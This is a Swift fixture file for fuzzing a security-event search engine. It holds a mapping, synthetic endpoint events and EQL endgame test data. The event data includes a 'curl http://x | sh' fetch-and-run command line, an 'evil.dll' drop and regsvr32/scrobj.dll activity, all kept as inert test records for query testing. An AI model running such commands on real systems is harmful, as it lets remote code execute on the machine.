import Foundation
public import VigilJSON
public import VigilStore
public import VigilQuery

/// What the fuzz targets share: a fixed clock, a small mapping with one field of each common
/// type, and a tiny index (eight events in one refreshed segment) to run compiled queries on.
///
/// The index lives in a scratch store under `$TMPDIR` (`scripts/fuzz` points it at its own
/// scratch directory) and is built once per process, before the first input.
public enum Fixture {
    /// 2026-11-23T09:05:07.089Z, so date math and `now` are deterministic.
    public static let now: Int64 = 1_795_424_707_089

    public static let mappingJSON: JSONValue = try! JSONParser().parse(
        #"""
        {"properties": {
          "@timestamp": {"type": "date"},
          "event": {"properties": {"category": {"type": "keyword"}, "type": {"type": "keyword"},
                                   "sequence": {"type": "long"}, "duration": {"type": "long"}}},
          "process": {"properties": {
            "name": {"type": "keyword"}, "pid": {"type": "long"}, "args": {"type": "keyword"},
            "command_line": {"type": "wildcard"}, "executable": {"type": "keyword", "ignore_above": 64},
            "entity_id": {"type": "keyword"}, "exit_code": {"type": "integer"},
            "parent": {"properties": {"name": {"type": "keyword"}, "pid": {"type": "long"}}}}},
          "user": {"properties": {"name": {"type": "keyword", "fields": {"text": {"type": "text"}}}, "id": {"type": "keyword"}}},
          "host": {"properties": {"name": {"type": "keyword"}, "os": {"properties": {"type": {"type": "constant_keyword", "value": "windows"}}}}},
          "source": {"properties": {"ip": {"type": "ip"}, "port": {"type": "long"}, "bytes": {"type": "unsigned_long"}}},
          "destination": {"properties": {"ip": {"type": "ip"}, "port": {"type": "long"}}},
          "file": {"properties": {"path": {"type": "keyword"}, "size": {"type": "long"}, "extension": {"type": "keyword"}}},
          "dll": {"properties": {"name": {"type": "keyword"}}},
          "message": {"type": "text", "fields": {"keyword": {"type": "keyword", "ignore_above": 256}}},
          "tags": {"type": "keyword"},
          "score": {"type": "double"},
          "ratio": {"type": "half_float"},
          "price": {"type": "scaled_float", "scaling_factor": 100},
          "flag": {"type": "boolean"},
          "version": {"type": "version"},
          "small": {"type": "short"},
          "tiny": {"type": "byte"},
          "created": {"type": "date", "format": "yyyy/MM/dd HH:mm:ss||epoch_millis"},
          "nanos": {"type": "date_nanos"},
          "proc_pid": {"type": "alias", "path": "process.pid"},
          "body": {"type": "match_only_text"},
          "serial_event_id": {"type": "long"},
          "unique_pid": {"type": "long"},
          "unique_ppid": {"type": "long"}
        }}
        """#)

    public static let mapping: Mapping = try! Mapping(json: mappingJSON)

    /// The eight events of the tiny index, as `_source` JSON.
    public static let events: [String] = [
        #"{"@timestamp":"2026-11-23T09:00:00Z","event":{"category":"process","type":"start","sequence":1},"process":{"name":"cmd.exe","pid":100,"args":["cmd.exe","/c","whoami"],"command_line":"cmd.exe /c whoami","executable":"C:\\Windows\\System32\\cmd.exe","entity_id":"e1","parent":{"name":"explorer.exe","pid":4}},"user":{"name":"Alice","id":"S-1-5-21"},"host":{"name":"ws-1"},"tags":["a","b"],"score":1.5,"flag":true,"version":"1.2.3","serial_event_id":1,"unique_pid":100,"unique_ppid":4,"message":"The quick brown fox"}"#,
        #"{"@timestamp":"2026-11-23T09:00:01Z","event":{"category":"file","type":"creation","sequence":2},"process":{"name":"cmd.exe","pid":100,"entity_id":"e1"},"file":{"path":"C:\\temp\\evil.dll","size":4096,"extension":"dll"},"user":{"name":"Alice"},"host":{"name":"ws-1"},"serial_event_id":2,"unique_pid":100,"message":"dropped a file"}"#,
        #"{"@timestamp":"2026-11-23T09:00:02Z","event":{"category":"library","sequence":3},"process":{"name":"regsvr32.exe","pid":200,"entity_id":"e2","parent":{"name":"cmd.exe","pid":100}},"dll":{"name":"scrobj.dll"},"host":{"name":"ws-1"},"serial_event_id":3,"unique_pid":200,"unique_ppid":100,"ratio":0.5,"price":12.34}"#,
        #"{"@timestamp":"2026-11-23T09:00:03Z","event":{"category":"network","type":"connection","sequence":4,"duration":1500},"process":{"name":"regsvr32.exe","pid":200},"source":{"ip":"10.0.0.5","port":49152,"bytes":9223372036854775807},"destination":{"ip":"2001:db8::1","port":443},"host":{"name":"ws-1"},"serial_event_id":4,"unique_pid":200}"#,
        #"{"@timestamp":"2026-11-23T09:00:04.500Z","event":{"category":"process","type":"end","sequence":5},"process":{"name":"bash","pid":300,"args":["bash","-c","curl http://x | sh"],"exit_code":0,"command_line":"bash -c 'curl http://x | sh'"},"user":{"name":"root","id":"0"},"host":{"name":"linux-1"},"score":-2.25,"flag":false,"version":"10.0.0-beta1","small":-3,"tiny":7,"created":"2026/11/23 09:00:04","nanos":"2026-11-23T09:00:04.123456789Z","serial_event_id":5,"unique_pid":300,"body":"über naïve café"}"#,
        #"{"@timestamp":1795424405000,"event":{"category":"registry"},"process":{"name":"reg.exe","pid":400},"message":"HKLM\\Software\\Run ünïcödé 🎉","tags":"single","serial_event_id":6,"unique_pid":400}"#,
        #"{"@timestamp":"2026-11-23T09:00:06Z","event":{"category":["process","authentication"]},"user":{"name":null},"process":{"pid":[500,501]},"host":{"name":"ws-2"},"serial_event_id":7}"#,
        #"{"@timestamp":"2026-11-23T09:00:07Z","event":{"category":"process","sequence":8},"process":{"name":"CMD.EXE","pid":600,"parent":{"name":"services.exe","pid":-1}},"destination":{"ip":"192.168.1.1"},"score":1e300,"serial_event_id":8,"unique_pid":600,"unique_ppid":-1}"#,
    ]

    /// The endgame data set of Elasticsearch's EQL spec suite: its mapping (`mapping-default.json`)
    /// and some of its events (`test_data.json`, `@timestamp` from the FILETIME `timestamp`).
    public static let endgameMappingJSON: JSONValue = try! JSONParser().parse(
        #"""
        {"properties":{"command_line":{"type":"keyword"},"event_type":{"type":"keyword"},"event":{"properties":{"category":{"type":"alias","path":"event_type"},"sequence":{"type":"alias","path":"serial_event_id"}}},"md5":{"type":"keyword"},"parent_process_name":{"type":"keyword"},"parent_process_path":{"type":"keyword"},"pid":{"type":"long"},"ppid":{"type":"long"},"process_name":{"type":"keyword"},"process_path":{"type":"keyword"},"subtype":{"type":"keyword"},"timestamp":{"type":"date"},"@timestamp":{"type":"date"},"user":{"type":"keyword"},"user_name":{"type":"keyword"},"user_domain":{"type":"keyword"},"hostname":{"type":"text","fields":{"keyword":{"type":"keyword","ignore_above":256}}},"opcode":{"type":"long"},"file_name":{"type":"text","fields":{"keyword":{"type":"keyword","ignore_above":256}}},"serial_event_id":{"type":"long"},"source_address":{"type":"ip"},"exit_code":{"type":"long"}}}
        """#)

    public static let endgameEvents: [String] = [
        #"{"event_subtype_full":"already_running","event_type":"process","event_type_full":"process_event","opcode":3,"pid":0,"process_name":"System Idle Process","serial_event_id":1,"subtype":"create","unique_pid":1,"@timestamp":0}"#,
        #"{"event_subtype_full":"already_running","event_type":"process","event_type_full":"process_event","opcode":3,"parent_process_name":"System Idle Process","pid":4,"process_name":"System","serial_event_id":2,"subtype":"create","unique_pid":2,"unique_ppid":1,"user_domain":"NT AUTHORITY","user_name":"SYSTEM","@timestamp":1504126051000}"#,
        #"{"command_line":"\\SystemRoot\\System32\\smss.exe","event_subtype_full":"already_running","event_type":"process","event_type_full":"process_event","md5":"63d3c30b497347495b8ea78a38188969","opcode":3,"parent_process_name":"System","pid":284,"ppid":4,"process_name":"smss.exe","process_path":"C:\\Windows\\System32\\smss.exe","serial_event_id":3,"subtype":"create","unique_pid":3,"unique_ppid":2,"user_domain":"NT AUTHORITY","user_name":"SYSTEM","@timestamp":1504126051000}"#,
        #"{"command_line":"wininit.exe","event_subtype_full":"already_running","event_type":"process","event_type_full":"process_event","md5":"94355c28c1970635a31b3fe52eb7ceba","opcode":3,"pid":424,"ppid":364,"process_name":"wininit.exe","process_path":"C:\\Windows\\System32\\wininit.exe","serial_event_id":5,"subtype":"create","unique_pid":5,"unique_ppid":0,"user_domain":"NT AUTHORITY","user_name":"SYSTEM","@timestamp":1504126051000}"#,
        #"{"command_line":"\"taskhost.exe\"","event_subtype_full":"already_running","event_type":"process","event_type_full":"process_event","md5":"517110bd83835338c037269e603db55d","opcode":3,"parent_process_name":"services.exe","parent_process_path":"C:\\Windows\\System32\\services.exe","pid":2776,"ppid":524,"process_name":"taskhost.exe","process_path":"C:\\Windows\\System32\\taskhost.exe","serial_event_id":31,"subtype":"create","unique_pid":31,"unique_ppid":8,"user_domain":"vagrant","user_name":"vagrant","@timestamp":1504126081000}"#,
        #"{"command_line":"\"C:\\Python27\\python.exe\"  worker.py --target c:\\workspace\\red_ttp\\process_name_masquerade.py","event_subtype_full":"already_running","event_type":"process","event_type_full":"process_event","md5":"21f73cd55626f0ec9fbce53eafbef128","opcode":3,"parent_process_name":"wsmprovhost.exe","parent_process_path":"C:\\Windows\\System32\\wsmprovhost.exe","pid":420,"ppid":3408,"process_name":"python.exe","process_path":"C:\\Python27\\python.exe","serial_event_id":48,"subtype":"create","unique_pid":48,"unique_ppid":47,"user_domain":"vagrant","user_name":"vagrant","@timestamp":1506463802000}"#,
        #"{"event_subtype_full":"file_create_event","event_type":"file","event_type_full":"file_event","file_name":"svchost.exe","file_path":"C:\\workspace\\red_ttp\\svchost.exe","opcode":0,"pid":2256,"process_name":"python.exe","process_path":"C:\\Python27\\python.exe","serial_event_id":55,"subtype":"create","unique_pid":54,"user_domain":"vagrant","user_name":"vagrant","@timestamp":1506463829545}"#,
        #"{"bytes_written_count":20,"bytes_written_string_list":["en-US","en"],"event_subtype_full":"registry_modify_event","event_type":"registry","event_type_full":"registry_event","key_path":"\\REGISTRY\\USER\\S-1-5-21-3942132181-2402070379-3970972291-1001_CLASSES\\Local Settings\\MuiCache\\1B\\52C64B7E\\LanguageList","key_type":"multiSz","opcode":1,"pid":2460,"process_name":"explorer.exe","process_path":"C:\\Windows\\explorer.exe","registry_key":"\\REGISTRY\\USER\\S-1-5-21-3942132181-2402070379-3970972291-1001_CLASSES\\Local Settings\\MuiCache\\1B\\52C64B7E","registry_path":"\\REGISTRY\\USER\\S-1-5-21-3942132181-2402070379-3970972291-1001_CLASSES\\Local Settings\\MuiCache\\1B\\52C64B7E\\LanguageList","registry_type":"multi_string","registry_value":"LanguageList","serial_event_id":57,"unique_pid":34,"user_name":"vagrant","@timestamp":1506463830606}"#,
        #"{"event_subtype_full":"file_create_event","event_type":"file","event_type_full":"file_event","file_name":"SVCHOST.EXE-CB1B3AA2.pf","file_path":"C:\\Windows\\Prefetch\\SVCHOST.EXE-CB1B3AA2.pf","opcode":0,"pid":896,"process_name":"svchost.exe","process_path":"C:\\Windows\\System32\\svchost.exe","serial_event_id":60,"subtype":"create","unique_pid":16,"user_domain":"NT AUTHORITY","user_name":"SYSTEM","@timestamp":1506463834568}"#,
        #"{"event_subtype_full":"request_event","event_type":"dns","event_type_full":"dns_event","opcode":3008,"pid":924,"process_name":"svchost.exe","process_path":"C:\\Windows\\System32\\svchost.exe","query_name":"teredo.ipv6.microsoft.com.","serial_event_id":63,"unique_pid":17,"user_domain":"NT AUTHORITY","user_name":"SYSTEM","@timestamp":1506463835036}"#,
        #"{"event_subtype_full":"file_delete_event","event_type":"file","event_type_full":"file_event","file_name":"services.exe","file_path":"C:\\workspace\\red_ttp\\services.exe","opcode":2,"pid":2256,"process_name":"python.exe","process_path":"C:\\Python27\\python.exe","serial_event_id":70,"subtype":"modify","unique_pid":54,"user_domain":"vagrant","user_name":"vagrant","@timestamp":1506463844677}"#,
        #"{"event_subtype_full":"file_delete_event","event_type":"file","event_type_full":"file_event","file_name":"csrss.exe","file_path":"C:\\workspace\\red_ttp\\csrss.exe","opcode":2,"pid":2256,"process_name":"python.exe","process_path":"C:\\Python27\\python.exe","serial_event_id":75,"subtype":"modify","unique_pid":54,"user_domain":"vagrant","user_name":"vagrant","@timestamp":1506463849701}"#,
        #"{"event_subtype_full":"file_create_event","event_type":"file","event_type_full":"file_event","file_name":"explorer.exe","file_path":"C:\\workspace\\red_ttp\\explorer.exe","opcode":0,"pid":2256,"process_name":"python.exe","process_path":"C:\\Python27\\python.exe","serial_event_id":88,"subtype":"create","unique_pid":54,"user_domain":"vagrant","user_name":"vagrant","@timestamp":1506463859716}"#,
        #"{"event_subtype_full":"file_create_event","event_type":"file","event_type_full":"file_event","file_name":"EXPLORER.EXE-854AF04C.pf","file_path":"C:\\Windows\\Prefetch\\EXPLORER.EXE-854AF04C.pf","opcode":0,"pid":896,"process_name":"svchost.exe","process_path":"C:\\Windows\\System32\\svchost.exe","serial_event_id":92,"subtype":"create","unique_pid":16,"user_domain":"NT AUTHORITY","user_name":"SYSTEM","@timestamp":1506463864723}"#,
        #"{"authentication_id":13728872,"command_line":"C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\msbuild.exe tmp-file.csproj","event_subtype_full":"creation_event","event_type":"process","event_type_full":"process_event","md5":"4b736b85e5de65e572f28a91e31b99bf","opcode":1,"original_file_name":"MSBuild.exe","parent_process_name":"python.exe","parent_process_path":"C:\\Python27\\python.exe","pid":860,"ppid":1196,"process_name":"MSBuild.exe","process_path":"C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\MSBuild.exe","serial_event_id":75273,"subtype":"create","unique_pid":75273,"unique_ppid":75248,"user_domain":"vagrant","user_name":"vagrant","@timestamp":1531764548450}"#,
        #"{"destination_address":"10.6.48.157","destination_port":8000,"event_subtype_full":"ipv4_connection_attempt_event","event_type":"network","event_type_full":"network_event","opcode":12,"pid":860,"process_name":"MSBuild.exe","process_path":"C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\MSBuild.exe","protocol":"tcp","serial_event_id":75304,"source_address":"10.6.48.157","source_port":52178,"subtype":"outgoing","unique_pid":75273,"user_domain":"vagrant","user_name":"vagrant","@timestamp":1531764549303}"#,
        #"{"destination_address":"10.6.48.157","destination_port":8000,"event_subtype_full":"ipv4_connection_attempt_event","event_type":"network","event_type_full":"network_event","mysterious_field":{"num":100,"outer_cross_match":"s3-c-x-y","subarray":[{"a":"s0-a","b":["s0-b"],"c":[{"x":{"y":"s0-c-x-y"},"z":"s0-c0-x-z"},{"x":{"y":"s0-c-x-y"},"z":"s0-c1-x-z"}],"cross_match":"s0-c1-x-z"},{"a":"s1-a","b":["s1-b"],"c":[]},{"a":"s2-a","b":["s2-b"],"c":[]},{"a":"s3-a","b":["s3-b"],"c":[{"x":{"y":"s3-c-x-y"},"z":"s3-c-x-z"}]}],"this_is_for_testing_nested_data":"true"},"opcode":12,"pid":10000,"process_name":"MSBuild.exe","process_path":"C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\MSBuild.exe","protocol":"tcp","serial_event_id":75305,"source_address":"10.6.48.157","source_port":52178,"subtype":"outgoing","unique_pid":99999,"user_domain":"vagrant","user_name":"vagrant","@timestamp":1531764549303}"#,
    ]

    /// The scratch store, kept for the process's life so its segments stay readable.
    public static let store: Store = {
        let dir = NSTemporaryDirectory() + "/vigil-fuzz-store-\(getpid())"
        try? FileManager.default.removeItem(atPath: dir)
        let store = try! Store(directory: dir, durable: false)
        for (name, mapping, events) in [("ecs", mappingJSON, events), ("endgame", endgameMappingJSON, endgameEvents)] {
            let index = try! store.createIndex(name, body: JSONObject([JSONObject.Entry(key: "mappings", value: mapping)]))
            let results = store.bulk(events.enumerated().map { i, e in
                BulkItem(target: name, operation: .index(id: "d\(i + 1)", source: Array(e.utf8), create: true, ifSeqNo: nil, ifPrimaryTerm: nil))
            })
            for r in results where r.error != nil { fatalError("fixture event rejected: \(r.error!)") }
            _ = try! index.refresh()
        }
        atexit { try? FileManager.default.removeItem(atPath: NSTemporaryDirectory() + "/vigil-fuzz-store-\(getpid())") }
        return store
    }()

    /// Readers over the two tiny indices: `ecs` (the mapping above) and `endgame`.
    public static let readers: [IndexReader] = ["ecs", "endgame"].map { try! store.index(named: $0)!.searchReader() }

    /// The `ecs` index.
    public static var reader: IndexReader { readers[0] }

    /// The `ecs` index's mapping after the events went in.
    public static var indexMapping: Mapping { readers[0].mapping }

    /// Runs a compiled query's filter over every segment of the tiny index.
    public static func match(_ expr: Expr) {
        for live in reader.segments {
            _ = SegmentFilter(segment: live.segment).matching(expr)
        }
    }

    /// Doc values for Painless: the first event's, typed as the mapping types them.
    public static let docValues: [String: [FieldValue]] = [
        "@timestamp": [.date(1_795_424_400_000)],
        "process.name": [.string("cmd.exe")],
        "process.pid": [.int(100)],
        "process.args": [.string("/c"), .string("cmd.exe"), .string("whoami")],
        "user.name": [.string("Alice")],
        "score": [.double(1.5)],
        "flag": [.bool(true)],
        "source.ip": [.ip(IPAddress("10.0.0.5")!)],
        "tags": [.string("a"), .string("b")],
        "empty": [],
    ]

    public static let firstSource: JSONValue = try! JSONParser().parse(events[0])
}

/// The input as a Swift string (invalid UTF-8 repaired, as a JSON request body cannot carry it).
public func fuzzString(_ data: UnsafePointer<UInt8>, _ size: Int) -> String {
    String(decoding: UnsafeBufferPointer(start: data, count: size), as: UTF8.self)
}
